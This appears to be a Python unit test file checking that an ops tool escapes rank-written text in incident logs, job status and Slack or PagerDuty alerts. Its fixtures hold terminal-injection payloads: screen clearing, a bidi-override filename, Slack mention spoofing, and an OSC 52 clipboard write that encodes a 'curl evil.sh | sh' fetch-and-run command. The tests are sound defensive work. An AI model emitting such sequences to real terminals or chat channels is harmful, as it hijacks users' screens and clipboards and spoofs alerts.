"""Rank-written text reaches people's terminals and Slack as text: escape sequences, bidi overrides
and Slack's `<!channel>` are shown, never obeyed (schemas/printable.py and its users)."""

from __future__ import annotations

import unicodedata

from tests.unit.coordinator.test_job_status import SPEC
from tests.unit.coordinator.world import CONFIG
from trainmedic.ops.alerts.payloads import alertmanager_alert, pagerduty_event, webhook_message
from trainmedic.ops.incidents.fold import IncidentHistory, apply
from trainmedic.ops.incidents.render import details, row, story, table
from trainmedic.ops.incidents.views import timeline, views
from trainmedic.ops.jobs.status import StepHistory, job_status, render
from trainmedic.recovery.coordinator.core import ClusterState
from trainmedic.recovery.coordinator.core.state import Job, JobState
from trainmedic.recovery.coordinator.narrate import narrate
from trainmedic.schemas import Incident, RecoveryFailed
from trainmedic.schemas.printable import terminal_safe
from trainmedic.schemas.telemetry import WorkerStepped

CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
CSI = "\x9b31m"  # the one-character C1 form of ESC [
ERROR = (f"RuntimeError: boom{CLEAR}{CLIPBOARD}\rall good\nFAKE: resolved\u202etxt.exe "
         "<!channel> <@U024BE7LH> <https://evil.example|docs> & done")


def unsafe(text: str) -> bool:
    """Whether `text` holds a character a terminal would act on."""
    return any(ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f or c in "\u202e\u2028" for c in text)


def test_controls_and_escape_sequences_are_shown_escaped() -> None:
    assert terminal_safe("a\x1b[31mb") == "a\\x1b[31mb"
    assert terminal_safe(CSI + "x\x00\x7f") == "\\x9b31mx\\x00\\x7f"
    assert terminal_safe("line\r\nnext\tcol") == "line\\x0d\\x0anext\\x09col"
    assert terminal_safe("line\nnext\r", keep="\n") == "line\nnext\\x0d"
    assert terminal_safe("abc\u202etxt\u2028\u2066") == "abc\\u202etxt\\u2028\\u2066"
    assert terminal_safe("ünïcödé, 日本, emoji 🙂, path C:\\x") == "ünïcödé, 日本, emoji 🙂, path C:\\x"
    assert not unsafe(terminal_safe(ERROR + CSI + "\x85"))


def incident(**extra) -> Incident:
    fields = {"ts": 1_700_000_010.0, "first_ts": 1_700_000_000.0, "id": "software_error-1", "status": "open",
              "category": "software_error", "severity": "SEV2", "action": "restart", "job": "llm\x1b[8m",
              "node": "n1", "evidence": (f"rank 3: {ERROR}",)}
    return Incident(**{**fields, **extra})


def test_the_incident_log_shows_rank_text_escaped() -> None:
    history = IncidentHistory()
    apply(history, incident(), 1_700_000_011.0)
    [view] = views(history)
    for text in (table([row(view)]), details(view), story(view, timeline(view))):
        assert not unsafe(text.replace("\n", "")), text
        assert "\\x1b[2J" in text or "llm\\x1b[8m" in text
    assert "RuntimeError: boom\\x1b[2J\\x1b[H\\x1b]52;c;" in details(view)
    assert not any(line.startswith("FAKE") for line in details(view).split("\n"))  # no line of its own


def test_job_status_and_the_coordinators_log_lines_escape_what_ranks_wrote() -> None:
    step = WorkerStepped(ts=1.0, node="a", job="j", rank=0, world_size=2, generation=1, step=5, step_time=1.0,
                         restore_warning=f"replica gone{CLEAR}")
    job = Job(SPEC, state=JobState.FAILED, generation=1, nodes=("a", "b"), end_reason=f"exit 1{CLIPBOARD}")
    lines = render(job_status(job, StepHistory.of("j", [step])), 2.0)
    assert not any(unsafe(line) for line in lines)
    assert "WARNING: restore fell back: generation 1, rank 0 on a: replica gone\\x1b[2J\\x1b[H" in lines
    failed = RecoveryFailed(ts=5.0, plan_id="p-1", job="llm", generation=1, reason=ERROR)
    [line] = narrate("ack", [failed], ClusterState.initial(CONFIG))
    assert not unsafe(line) and "boom\\x1b[2J" in line


def test_slack_text_takes_mentions_and_links_literally() -> None:
    text = webhook_message(incident())["text"]
    assert "<!channel>" not in text and "<@U024BE7LH>" not in text and "<https://" not in text
    assert "&lt;!channel&gt; &lt;@U024BE7LH&gt; &lt;https://evil.example|docs&gt; &amp; done`" in text
    assert text.startswith("*FIRING* `[SEV2] software_error on n1 (job llm\\x1b[8m): ")
    assert not unsafe(text.replace("\n", ""))
    assert webhook_message(incident())["incident"]["evidence"] == [terminal_safe(f"rank 3: {ERROR}")]


def test_slack_shows_urls_formatting_and_backticks_of_the_evidence_as_code() -> None:
    """Issue 42, C: a bare URL in the evidence became a link in Slack, and `*RESOLVED*` in it bold."""
    line = "see https://evil.example/fix *RESOLVED* `x` _y_ ~z~"
    text = webhook_message(incident(evidence=(line,)))["text"]
    assert "• `see https://evil.example/fix *RESOLVED* ˋxˋ _y_ ~z~`" in text.splitlines()
    assert text.count("`") == 6  # summary, id, the one line: each a code span, none broken out of


def test_format_characters_are_escaped_every_one_of_them() -> None:
    """Issue 42, C: U+061C and U+200B went through; now every Unicode format character (Cf), line and
    paragraph separator does not."""
    hidden = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp")]
    assert not [c for c in hidden if terminal_safe(c) == c]
    assert terminal_safe("a\u061cb\u200bc\U000e0041") == "a\\u061cb\\u200bc\\U000e0041"


def test_every_field_of_every_alert_payload_is_escaped() -> None:
    """Issue 42, C: a raw ESC reached the webhook's JSON evidence (and PagerDuty's custom details)."""
    fired = incident(evidence=(f"rank 3: {ERROR}", "\u200b"))  # and the job id's ESC

    def strings(value) -> list[str]:
        if isinstance(value, dict):
            return [s for k, v in value.items() for s in (k, *strings(v))]
        if isinstance(value, list):
            return [s for v in value for s in strings(v)]
        return [value] if isinstance(value, str) else []

    for payload in (webhook_message(fired), pagerduty_event(fired, "key"),
                    alertmanager_alert(fired, now=1_700_000_020.0, resend_s=60.0, generator_url="x/{id}")):
        assert not [s for s in strings(payload) if terminal_safe(s.replace("\n", "")) != s.replace("\n", "")]


def test_pagerduty_and_alertmanager_get_bounded_escaped_text() -> None:
    long = incident(evidence=(CLEAR * 1000,), job="j" * 1000 + "\x1b")
    payload = pagerduty_event(long, "key")["payload"]
    assert len(payload["summary"]) <= 1024 and not unsafe(payload["summary"])
    assert len(payload["component"]) <= 255 and len(payload["source"]) <= 255
    assert not any(unsafe(payload[k]) for k in ("summary", "source", "component", "group", "class"))
    alert = alertmanager_alert(incident(), now=1_700_000_020.0, resend_s=60.0, generator_url="x/{id}")
    assert not unsafe(alert["annotations"]["summary"]) and not unsafe(alert["annotations"]["evidence"])
